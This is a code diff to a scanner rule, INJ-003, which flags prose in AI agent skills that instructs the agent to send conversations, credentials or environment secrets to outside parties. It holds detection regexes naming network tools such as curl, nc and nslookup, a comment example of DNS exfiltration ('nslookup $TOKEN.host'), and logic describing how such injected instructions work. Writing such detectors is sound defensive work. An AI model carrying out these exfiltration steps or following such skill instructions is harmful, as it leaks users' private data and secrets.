@@ -1,8 +1,26 @@
 /** INJ-003: prose that sends data out. See send-to-outsider.md. */
 
+import { pathOf, SECRET_CLASSES } from '../../data/paths.ts';
 import type { InstructFact } from '../../model.ts';
 import { type Draft, rule } from '../contract.ts';
-import { addressOf, has, near, ordered, quoted } from '../shared.ts';
+import { addressOf, has, near, ordered, professed, quoted, show } from '../shared.ts';
+
+/** Places of whoever made the skill, or of nobody the user chose: no address, but a name. */
+const OUTSIDER =
+  /\b(?:providers?(?:['’]s?)?|authors?(?:['’]s?)?|developers?(?:['’]s?)?|maintainers?(?:['’]s?)?|vendors?(?:['’]s?)?|telemetry|analytics|collect(?:or|ion)|diagnostic|compliance|logging|triage|collaborators?|third[- ]part(?:y|ies)|partners?|remote|external|our)\b/i;
+/** The whole of what somebody said or wrote. */
+const WHOLE =
+  /\b(?:full|entire|complete|all|every(?:thing)?|copy of|conversations?|user|private|prompts?|contracts?|documents?|headers|telemetry)\b/i;
+const CARRIES = /\b(?:nslookup|dig|host|curl|wget|nc|ncat|ping|scp|rsync|sftp|ftp)\b/i;
+
+/** The address stands where a destination stands: "to X", "via X", "POST X"; not "for X (`run.googleapis.com`)". */
+function aimed(fact: InstructFact, host: string): boolean {
+  const at = fact.clause.toLowerCase().indexOf(host);
+  if (at < 0) return true;
+  return /\b(?:to|at|via|into|onto|through|towards|using|post|put|upload|send|forward|scp|rsync)\b[^.;]{0,60}$/i.test(
+    fact.clause.slice(Math.max(0, at - 80), at),
+  );
+}
 
 export default rule({
   id: 'INJ-003',
@@ -21,7 +39,41 @@ export default rule({
       ctx.facts.all('declare').flatMap((fact) => (fact.what === 'homepage' || fact.what === 'host' ? [addressOf(fact.value).domain] : [])),
     );
     for (const fact of clauses) {
-      if (!ordered(fact, 'send', 'publish', 'copy', 'reveal') || fact.actor === 'other' || fact.actor === 'user') continue;
+      if (fact.actor === 'other' || fact.actor === 'user') continue;
+      // No address, but said whose it is: the conversation or files go to the maker of the skill.
+      if (
+        (ordered(fact, 'send', 'publish', 'copy') || (professed(fact) && fact.verb === 'send')) &&
+        fact.destination !== undefined &&
+        fact.destination.kind !== 'known' &&
+        OUTSIDER.test(show(fact.destination)) &&
+        (has(fact, 'context', 'secret', 'credential-file', 'environment', 'agent-secret', 'system-prompt') ||
+          /\btelemetry\b|\bcopy of\b/i.test(fact.clause)) &&
+        WHOLE.test(fact.clause)
+      ) {
+        drafts.push({ says: `sends what the user says or has to ${show(fact.destination)}: ${quoted(fact.clause)}`, facts: [fact], gate: 'review' });
+        continue;
+      }
+      if (professed(fact) && fact.verb === 'send' && fact.destination?.kind === 'known' && has(fact, 'context') && WHOLE.test(fact.clause)) {
+        const address = addressOf(fact.destination);
+        if (!['loopback', 'private'].includes(address.class) && !home.has(address.domain))
+          drafts.push({ says: `sends what the user says or has to ${address.host}: ${quoted(fact.clause)}`, facts: [fact], gate: 'review' });
+        continue;
+      }
+      // `nslookup $TOKEN.host`: a command that carries what was just read.
+      if (ordered(fact, 'run') && fact.destination !== undefined && CARRIES.test(fact.clause)) {
+        const source = clauses.find(
+          (other: InstructFact) =>
+            (other.verb === 'read' || other.verb === 'collect') &&
+            ordered(other) &&
+            near(other, fact, 0) &&
+            other.at.start < fact.at.start &&
+            has(other, 'credential-file', 'agent-secret', 'environment', 'secret'),
+        );
+        if (source !== undefined && addressOf(fact.destination).class !== 'loopback')
+          drafts.push({ says: `has what it read carried to ${addressOf(fact.destination).host}: ${quoted(fact.clause)}`, facts: [fact, source] });
+        continue;
+      }
+      if (!ordered(fact, 'send', 'publish', 'copy', 'reveal')) continue;
       const grave = has(fact, 'credential-file', 'agent-secret', 'environment', 'system-prompt');
       const secret = grave || has(fact, 'secret', 'context');
       if (!secret) {
@@ -34,8 +86,26 @@ export default rule({
             other.at.start < fact.at.start &&
             has(other, 'credential-file', 'agent-secret', 'environment', 'secret', 'context'),
         );
-        if (earlier === undefined || fact.destination === undefined || fact.verb !== 'send') continue;
+        if (fact.destination === undefined || fact.verb !== 'send') continue;
+        if (earlier === undefined) {
+          // The command just above read a credential file, and what it printed is to go out.
+          const read = OUTSIDER.test(`${show(fact.destination)} ${fact.clause}`)
+            ? ctx.facts
+                .of('read')
+                .find(
+                  (one) =>
+                    one.at.file === fact.at.file &&
+                    one.at.start < fact.at.start &&
+                    fact.at.start - one.at.start < 500 &&
+                    SECRET_CLASSES.has(pathOf(one.path).class),
+                )
+            : undefined;
+          if (read !== undefined)
+            drafts.push({ says: `has what it read from ${show(read.path)} sent out: ${quoted(fact.clause)}`, facts: [fact, read], gate: 'review' });
+          continue;
+        }
         const address = addressOf(fact.destination);
+        if (address.host !== '' && !aimed(fact, address.host)) continue;
         if (address.class === 'loopback' || address.class === 'private') continue;
         drafts.push({
           says: `has what it read sent to ${address.host || 'an outside place'}: ${quoted(fact.clause)}`,
@@ -47,22 +117,15 @@ export default rule({
       if (fact.destination === undefined) continue;
       const address = addressOf(fact.destination);
       const mail = fact.destination.kind === 'known' && /^[^\s@/]{1,80}@[^\s@/]{1,120}$/.test(fact.destination.text);
-      if (address.class === 'loopback' || address.class === 'private') continue;
-      const outside = mail || (address.host.includes('.') && !home.has(address.domain));
+      if (address.class === 'loopback' || address.class === 'private' || (address.host !== '' && !mail && !aimed(fact, address.host))) continue;
+      const outside = mail || ((address.host.includes('.') || /^(?:s3|gs)$/.test(address.scheme)) && !home.has(address.domain));
       // A key in the header of the API it belongs to is how one logs in.
       const login =
         has(fact, 'secret') &&
         !grave &&
         !has(fact, 'context') &&
         /\b(?:header|authorization|bearer|api[- ]key|x-[a-z-]{2,20}|authenticat|token endpoint|login|parameter|query|request)\b/i.test(fact.clause);
-      if (login)
-        drafts.push({
-          says: `sends a key to ${address.host || 'an outside place'}: ${quoted(fact.clause)}`,
-          facts: [fact],
-          gate: 'capability',
-          confidence: 1,
-        });
-      else
+      if (!login)
         drafts.push({
           says: `sends ${grave ? 'secrets of the machine' : has(fact, 'context') ? 'the conversation or files' : 'a secret'} to ${mail ? 'a mail address' : address.host || 'an outside place'}: ${quoted(fact.clause)}`,
           facts: [fact],
